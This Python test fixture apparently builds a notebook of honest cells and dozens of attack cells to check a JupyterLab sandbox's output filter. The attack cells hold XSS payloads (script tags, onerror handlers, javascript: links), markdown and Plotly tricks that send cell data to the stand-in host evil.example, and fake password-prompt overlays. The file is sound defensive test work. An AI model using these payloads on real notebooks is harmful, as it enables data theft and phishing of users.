"""The notebook the browser test runs: honest cells, then one cell per attack on the browser.

Each attack carries its id in everything it would do if it worked: it sets `window.__pwned_<id>`
and fetches `//evil.example/<id>/...`, so the test can tell which attack did what. Every attack cell
ends with `print("sent", "<id>")`: the marker shows the payload was handed to the kernel's output
path (a cell that failed before displaying would prove nothing).

Sources: the reviewer's findings (issue 9, each confirmed in JupyterLab 4.6), and the hostile
payloads of tests/test_outputfilter.py and tests/test_kernel_sidedoors.py with `alert(1)` turned into
a flag the test can read.
"""
from __future__ import annotations

from dataclasses import dataclass

EVIL = "evil.example"

# Cell 0: how sandboxed code publishes a chosen MIME type (the data-science policy allows classes with
# _repr_*_ methods; render.py calls them gated).
HELPERS = '''\
class Html:
    def __init__(self, text):
        self.text = text
    def _repr_html_(self):
        return self.text

class Markdown:
    def __init__(self, text):
        self.text = text
    def _repr_markdown_(self):
        return self.text

class Plotly:
    def __init__(self, figure):
        self.figure = figure
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"application/vnd.plotly.v1+json": self.figure, "text/plain": "a figure"}

print("helpers ready")
'''


@dataclass(frozen=True)
class Honest:
    id: str
    source: str


HONEST = (
    Honest("status", "%sandbox_status"),
    Honest("dataframe", 'import pandas as pd\npd.DataFrame({"city": ["Oslo", "Lima"], "visits": [11, 22]})'),
    Honest("plotly", 'import plotly.graph_objects as go\n'
                     'go.Figure(go.Bar(x=["north", "south"], y=[3, 5]), layout={"title": {"text": "honest bars"}})'),
    # issue 11, 8: 100k points (2.6 MB as JSON lists) leave as typed arrays, 1.6 MB, under the display cap
    Honest("plotly_large", 'import plotly.graph_objects as go, math\nxs = list(range(100_000))\n'
                           'go.Figure(go.Scattergl(x=xs, y=[math.sin(i / 1000) for i in xs], mode="markers"))'),
    Honest("markdown", 'Markdown("# Title\\n*em* **strong**")'),
    Honest("denial", "import os"),
)


@dataclass(frozen=True)
class Attack:
    id: str                  # a JS identifier: the flag is window.__pwned_<id>, URLs hold /<id>/
    what: str                # the technique, one line
    mime: str                # "html", "markdown" or "plotly": which helper publishes the payload
    payload: object
    click: str | None = None     # CSS selector inside the output to click after it rendered
    hover: bool = True           # move the mouse over every element of the output
    hosts: tuple = ()            # remote hosts it reaches without its id in the URL (a CDN)
    probe: str | None = None     # JS `out => ...` over the cell's output area: truthy text = it worked

    @property
    def source(self) -> str:
        helper = {"html": "Html", "markdown": "Markdown", "plotly": "Plotly"}[self.mime]
        return f"display({helper}({self.payload!r}))\nprint('sent', {self.id!r})"


def flag(id_: str) -> str:
    return f"window.__pwned_{id_}=1"


def evil(id_: str, path: str = "x", scheme: str = "//") -> str:
    return f"{scheme}{EVIL}/{id_}/{path}"


def _md(id_, what, payload, **kw):
    return Attack(id_, what, "markdown", payload, **kw)


def _html(id_, what, payload, **kw):
    return Attack(id_, what, "html", payload, **kw)


def _figure(**layout) -> dict:
    return {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2]}], "layout": layout}


def _image(source: str) -> dict:
    return _figure(images=[_image_item(source)])


def _map(style, text: bool = False, **subplot) -> dict:
    trace = {"type": "scattermap", "lat": [59.9], "lon": [10.7], "mode": "markers+text" if text else "markers"}
    if text:
        trace["text"] = ["Oslo"]
    return {"data": [trace],
            "layout": {"map": {"style": style, "center": {"lat": 59.9, "lon": 10.7}, "zoom": 3, **subplot}}}


def _image_item(source: str) -> dict:
    return {"source": source, "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 0.5, "sizey": 0.5}


_MAP_TRACE = {"type": "scattermap", "lat": [48.85], "lon": [2.35], "mode": "markers+text", "text": ["x"]}
# Where plotly.js's map styles come from: its default style sheet, OpenStreetMap's tiles, the glyphs.
_MAP_CDNS = ("basemaps.cartocdn.com", "tile.openstreetmap.org", "fonts.openmaptiles.org")

_HAS_DIALOG_CLASS = ("out => out.querySelector('.jp-Dialog, .jp-Dialog-content') ? "
                     "'an output element carries the class jp-Dialog' : ''")


def _plotly(id_, what, figure, **kw):
    return Attack(id_, what, "plotly", figure, hover=False, **kw)


_MD = (
    _md("md_math_attr", "math span put back raw inside an image attribute (zero-click JS)",
        f"![x]($\" onerror=\"{flag('md_math_attr')};fetch('{evil('md_math_attr')}?'+document.domain)//$)"),
    _md("md_fence_hover", "fenced code info string with a quote (JS on hover)",
        f"```python\" onmouseover=\"{flag('md_fence_hover')}\"\nx = 1\n```"),
    _md("md_protocol_relative", "protocol-relative image carrying cell data",
        f"![]({evil('md_protocol_relative', 'p.png?d=DATA')})"),
    _md("md_ref_next_line", "reference definition with the destination on the next line",
        f"[r]:\n{evil('md_ref_next_line', 'p.png?d=DATA')}\n\n![x][r]"),
    _md("md_ref_in_quote", "reference definition inside a block quote",
        f"> [r]: {evil('md_ref_in_quote', 'p.png?d=DATA')}\n\n![x][r]"),
    _md("md_ref_in_list", "reference definition inside a list item",
        f"- [r]: {evil('md_ref_in_list', 'p.png?d=DATA')}\n\n![x][r]"),
    _md("md_ref_escaped_label", "reference label with an escaped bracket",
        f"[a\\]b]: {evil('md_ref_escaped_label', 'p.png?d=DATA')}\n\n![x][a\\]b]"),
    _md("md_remote_image", "remote image (unit-test payload)",
        f"![x]({evil('md_remote_image', 'leak?d=secret', 'https://')})"),
    _md("md_ref_remote_image", "reference definition to a remote image (unit-test payload)",
        f"[x]: {evil('md_ref_remote_image', 'p.png', 'https://')}\n\n![y][x]"),
    _md("md_math_attr_relative", "math span in an attribute after a relative destination",
        f"![x](a$\" onerror=\"{flag('md_math_attr_relative')}//$)"),
    _md("md_list_image", "remote image inside a list item",
        f"- ![a]({evil('md_list_image', 'l.png', 'https://')})\n- item"),
    _md("md_escaped_bracket_image", "image text with an escaped bracket",
        f"![a \\] b]({evil('md_escaped_bracket_image', 'b.png', 'https://')})"),
    _md("md_ref_angle", "reference definition with an <angle> destination",
        f"[x]: <{evil('md_ref_angle', 'angle.png', 'https://')}>\n\n![y][x]"),
    _md("md_angle_destination_space", "inline <angle> destination holding a space",
        f"![y](<{evil('md_angle_destination_space', 's p.png', 'https://')}>)"),
    _md("md_mathjax_style", "TeX \\style with a url() in display math (MathJax's html package)",
        f"$$\\style{{background:url({evil('md_mathjax_style', 'b.png')})}}{{x}}$$"),
    _md("md_script", "raw <script> in markdown", f"<script>{flag('md_script')}</script>"),
    _md("md_raw_img_onerror", "raw <img onerror> in markdown", f"<img src=x onerror=\"{flag('md_raw_img_onerror')}\">"),
    _md("md_javascript_link", "javascript: link (click)", f"[click](javascript:{flag('md_javascript_link')})",
        click="a"),
    _md("md_javascript_link_spaced", "javascript: link after a space, upper case (click)",
        f"[click]( JAVASCRIPT:{flag('md_javascript_link_spaced')})", click="a"),
    _md("md_entity_javascript", "javascript: link spelt with an entity (click)",
        f"[click](&#106;avascript:{flag('md_entity_javascript')})", click="a"),
    _md("md_ref_javascript", "reference definition to javascript: (click)",
        f"[x]: javascript:{flag('md_ref_javascript')}\n\n[y][x]", click="a"),
)

_PLOTLY = (
    _plotly("plotly_image_backslashes", "layout image source \\\\host/...",
            _image(f"\\\\{EVIL}/plotly_image_backslashes/i.png")),
    _plotly("plotly_image_slash_backslash", "layout image source /\\host/...",
            _image(f"/\\{EVIL}/plotly_image_slash_backslash/i.png")),
    _plotly("plotly_image_control_char", "layout image source after a leading control character",
            _image("\x01" + evil("plotly_image_control_char", "i.png"))),
    _plotly("plotly_image_tab_in_scheme", "layout image source with a tab inside the scheme",
            _image(f"ht\ttp://{EVIL}/plotly_image_tab_in_scheme/i.png")),
    _plotly("plotly_image_remote", "layout image source https:// (unit-test payload)",
            _image(evil("plotly_image_remote", "i.png", "https://"))),
    _plotly("plotly_template_image", "layout image hidden in the figure's template",
            _figure(template={"layout": {"images": [
                {**_image_item(evil("plotly_template_image", "i.png", "http://")), "name": "logo"}]}})),
    _plotly("plotly_image_trace_source", "image trace whose source is a URL",
            {"data": [{"type": "image", "source": evil("plotly_image_trace_source", "i.png", "http://")}], "layout": {}}),
    _plotly("plotly_updatemenu_image", "update-menu button that relayouts a remote image in (click)",
            _figure(updatemenus=[{"type": "buttons", "buttons": [
                {"label": "show", "method": "relayout",
                 "args": [{"images": [_image_item(evil("plotly_updatemenu_image", "i.png", "http://"))]}]}]}]),
            click="g.updatemenu-button"),
    _plotly("plotly_map_layers", "map layer whose raster source is remote",
            _map("white-bg", layers=[{"sourcetype": "raster", "below": "traces",
                                      "source": [evil("plotly_map_layers", "{z}/{x}/{y}.png", "http://")]}])),
    _plotly("plotly_geojson_url", "choroplethmap trace geojson given as a URL",
            {"data": [{"type": "choroplethmap", "geojson": evil("plotly_geojson_url", "g.json", "http://"),
                       "locations": ["a"], "z": [1]}], "layout": {"map": {"style": "white-bg"}}}),
    _plotly("plotly_map_default_style", "map trace without a style: plotly.js loads its default from a CDN",
            {"data": [{"type": "scattermap", "lat": [59.9], "lon": [10.7]}], "layout": {}},
            hosts=("basemaps.cartocdn.com",)),
    _plotly("plotly_map_style_tiles", "map style object whose source tiles are remote",
            _map({"version": 8, "sources": {"s": {"type": "raster", "tileSize": 256,
                                                  "tiles": [evil("plotly_map_style_tiles", "{z}/{x}/{y}.png", "http://")]}},
                  "layers": [{"id": "s", "type": "raster", "source": "s"}]})),
    _plotly("plotly_map_style_glyphs", "map style object with remote glyphs",
            _map({"version": 8, "glyphs": evil("plotly_map_style_glyphs", "{fontstack}/{range}.pbf", "http://"),
                  "sources": {}, "layers": []}, text=True)),
    _plotly("plotly_map_style_sprite", "map style object with a remote sprite",
            _map({"version": 8, "sprite": evil("plotly_map_style_sprite", "sprite", "http://"),
                  "sources": {}, "layers": []})),
    _plotly("plotly_map_style_url", "map style given as a remote URL",
            _map(evil("plotly_map_style_url", "style.json", "http://"))),
    _plotly("plotly_title_span_style", "title <span style> with a background url()",
            _figure(title={"text": f"<span style=\"background:url({evil('plotly_title_span_style', 'b.png')})\">"
                                   "t</span>"})),
    _plotly("plotly_scattergeo_topojson", "scattergeo trace: topojson fetched from the plotly CDN",
            {"data": [{"type": "scattergeo", "lon": [10.7], "lat": [59.9]}], "layout": {}}, hosts=("cdn.plot.ly",)),
    _plotly("plotly_annotation_javascript", "annotation link to javascript: (click)",
            _figure(annotations=[{"text": f"<a href='javascript:{flag('plotly_annotation_javascript')}'>click</a>",
                                  "x": 1, "y": 1, "showarrow": False}]), click="g.annotation a"),
    # Review O2: map subplots named by another route than the trace's own `subplot` (the CDN requests
    # carry no attack id, so these are told apart by host only).
    _plotly("plotly_template_map_subplot", "map subplot named by the template's trace defaults (map2), no "
            "style anywhere: plotly.js loads its default style (O2-1)",
            {"data": [_MAP_TRACE], "layout": {"template": {"data": {"scattermap": [{"subplot": "map2"}]}}}},
            hosts=_MAP_CDNS),
    _plotly("plotly_template_map_subplot_named", "map subplot named by the template's trace defaults, the "
            "template's map style 'open-street-map' (O2-1)",
            {"data": [_MAP_TRACE], "layout": {"template": {"data": {"scattermap": [{"subplot": "map2"}]},
                                                           "layout": {"map": {"style": "open-street-map"}}}}},
            hosts=_MAP_CDNS),
    _plotly("plotly_map1_subplot", "trace subplot 'map1', which plotly.js reads as 'map' (unstyled)",
            {"data": [{**_MAP_TRACE, "subplot": "map1"}], "layout": {}}, hosts=_MAP_CDNS),
    _plotly("plotly_animate_inline_map", "animate button whose inline frame turns the trace into a map trace "
            "on map2 (O2-2, click)",
            _figure(updatemenus=[{"type": "buttons", "buttons": [
                {"method": "animate", "label": "Show data",
                 "args": [[{"data": [{**_MAP_TRACE, "subplot": "map2"}], "traces": [0]}],
                          {"frame": {"redraw": True, "duration": 0}, "mode": "immediate"}]}]}]),
            click="g.updatemenu-button", hosts=_MAP_CDNS),
    _plotly("plotly_relayout_map_reset", "relayout button replacing the map subplot by {} (its style "
            "becomes plotly.js's default, click)",
            {"data": [{**_MAP_TRACE, "mode": "markers"}],
             "layout": {"map": {"style": "white-bg"}, "updatemenus": [{"type": "buttons", "buttons": [
                 {"method": "relayout", "label": "reset", "args": [{"map": {}}]}]}]}},
            click="g.updatemenu-button", hosts=_MAP_CDNS),
)

_HTML = (
    _html("html_script", "<script>", f"<b>table</b><script>{flag('html_script')}</script>"),
    _html("html_img_onerror", "<img onerror>", f"<img src=x onerror=\"{flag('html_img_onerror')}\">"),
    _html("html_svg_onload", "<svg onload>", f"<svg onload=\"{flag('html_svg_onload')}\"></svg>"),
    _html("html_iframe_srcdoc", "<iframe srcdoc> with a script",
          f"<iframe srcdoc=\"<script>parent.__pwned_html_iframe_srcdoc=1</script>\"></iframe>"),
    _html("html_a_javascript", "<a href=javascript:> (click)",
          f"<a href=\"javascript:{flag('html_a_javascript')};void 0\">click me</a>", click="a"),
    _html("html_a_javascript_mixed_case", "<a href=' JaVaScRiPt:'> (click)",
          f"<a href=' JaVaScRiPt:{flag('html_a_javascript_mixed_case')};void 0'>click me</a>", click="a"),
    _html("html_math_xlink", "<math><mi xlink:href=javascript:> (click)",
          f"<math><mi xlink:href=\"javascript:{flag('html_math_xlink')}\">x</mi></math>", click="mi"),
    _html("html_mathjax_style", "TeX \\style with a url() in HTML math (MathJax's html package)",
          f"<p>$$\\style{{background:url({evil('html_mathjax_style', 'b.png')})}}{{x}}$$</p>"),
    _html("html_mathjax_class", "TeX \\class putting JupyterLab's dialog class on typeset math",
          "<p>$\\class{jp-Dialog}{x}$</p>", probe=_HAS_DIALOG_CLASS),
    _html("html_mathjax_href", "TeX \\href to javascript: in HTML math (click)",
          f"<p>$\\href{{javascript:{flag('html_mathjax_href')}}}{{x}}$</p>", click="a"),
    _html("html_table_background", "<table background>",
          f"<table background=\"{evil('html_table_background', 't.png')}\"><tr><td>x</td></tr></table>"),
    _html("html_video_audio", "<video poster> and <audio src>",
          f"<video poster=\"{evil('html_video_audio', 'p.png')}\"></video>"
          f"<audio src=\"{evil('html_video_audio', 'a')}\" preload=\"auto\"></audio>"),
    _html("html_img_remote", "remote <img>", f"<img src=\"{evil('html_img_remote', '?secret=1', 'https://')}\">"),
    _html("html_img_srcset", "remote <img srcset>", f"<img srcset=\"{evil('html_img_srcset', 'a.png')} 1x\">"),
    _html("html_style_attribute_url", "style attribute with a remote url()",
          f"<div style=\"background-image:url({evil('html_style_attribute_url', 'b.png')})\">x</div>"),
    _html("html_style_block_url", "<style> block with @import and url()",
          f"<style>@import url({evil('html_style_block_url', 'i.css')});"
          f".leak-html_style_block_url{{background:url({evil('html_style_block_url', 'b.png')})}}</style>"
          "<div class=\"leak-html_style_block_url\">x</div>"),
    _html("html_link_stylesheet", "<link rel=stylesheet>",
          f"<link rel=\"stylesheet\" href=\"{evil('html_link_stylesheet', 's.css')}\">"),
    _html("html_object_embed", "<object data> and <embed src>",
          f"<object data=\"{evil('html_object_embed', 'o')}\"></object><embed src=\"{evil('html_object_embed', 'e')}\">"),
    _html("html_form_action", "<form action> submitted by a click",
          f"<form action=\"{evil('html_form_action', 'submit')}\"><input name=\"q\" value=\"secret\">"
          "<button type=\"submit\">send</button></form>", click="button"),
    _html("html_dialog_class", "UI redress: HTML wearing JupyterLab's dialog classes",
          "<div class=\"jp-Dialog\"><div class=\"jp-Dialog-content\">Your session expired. Log in again.</div></div>",
          probe=_HAS_DIALOG_CLASS),
    _html("html_global_style", "UI redress: a <style> block restyles JupyterLab itself",
          "<style>#jp-top-panel{visibility:hidden}</style><p>styled</p>",
          probe="out => getComputedStyle(document.querySelector('#jp-top-panel')).visibility === 'hidden' ? "
                "'the <style> in the output hid JupyterLab\\'s menu bar' : ''"),
    _html("html_meta_refresh", "<meta http-equiv=refresh>",
          f"<meta http-equiv=\"refresh\" content=\"0;url={evil('html_meta_refresh', 'r')}\">"),
    _html("html_base_href", "<base href> re-points every relative URL of the page",
          f"<base href=\"{evil('html_base_href', '')}\"><img src=\"relative.png\">",
          probe=f"out => document.baseURI.includes('{EVIL}') ? 'document.baseURI is ' + document.baseURI : ''"),
    # Last: if it worked it covers the page, and nothing after it could be hovered or clicked.
    _html("html_fixed_overlay", "UI redress: a fixed full-page overlay",
          "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:100000;"
          "background:white\">Session expired: enter your password</div>",
          probe="out => Array.from(out.querySelectorAll('*')).some(e => getComputedStyle(e).position === 'fixed') ? "
                "'an output element is position:fixed over the page' : ''"),
)

ATTACKS = _MD + _PLOTLY + _HTML
assert len({a.id for a in ATTACKS}) == len(ATTACKS)

# Attacks that do nothing in JupyterLab 4.6 + Chromium even unfiltered (seen in the control run), with
# the reason. They stay in the sandboxed run (another browser or JupyterLab may differ); the control
# test leaves them out.
_NEW_WINDOW = "JupyterLab opens output links in a new window, where Chromium does not run a javascript: URL"
INERT_IN_JUPYTERLAB: dict[str, str] = {
    "md_javascript_link": _NEW_WINDOW,
    "md_javascript_link_spaced": _NEW_WINDOW,
    "md_entity_javascript": _NEW_WINDOW,
    "md_ref_javascript": _NEW_WINDOW,
    "html_a_javascript": _NEW_WINDOW,
    "html_a_javascript_mixed_case": _NEW_WINDOW,
    "plotly_annotation_javascript": "plotly.js drops javascript: link targets itself",
    "html_svg_onload": "an <svg onload> inserted through innerHTML never fires its load event",
    "html_math_xlink": "Chromium does not follow links on MathML elements",
    "md_mathjax_style": "JupyterLab 4.6's MathJax typesets the math but applies no \\style",
    "html_mathjax_style": "JupyterLab 4.6's MathJax typesets the math but applies no \\style",
    "html_mathjax_class": "JupyterLab 4.6's MathJax typesets the math but applies no \\class",
    "html_mathjax_href": "JupyterLab 4.6's MathJax typesets the math but makes no \\href link",
    "plotly_image_trace_source": "plotly.js did not fetch an image trace's remote source",
}
assert set(INERT_IN_JUPYTERLAB) <= {a.id for a in ATTACKS}
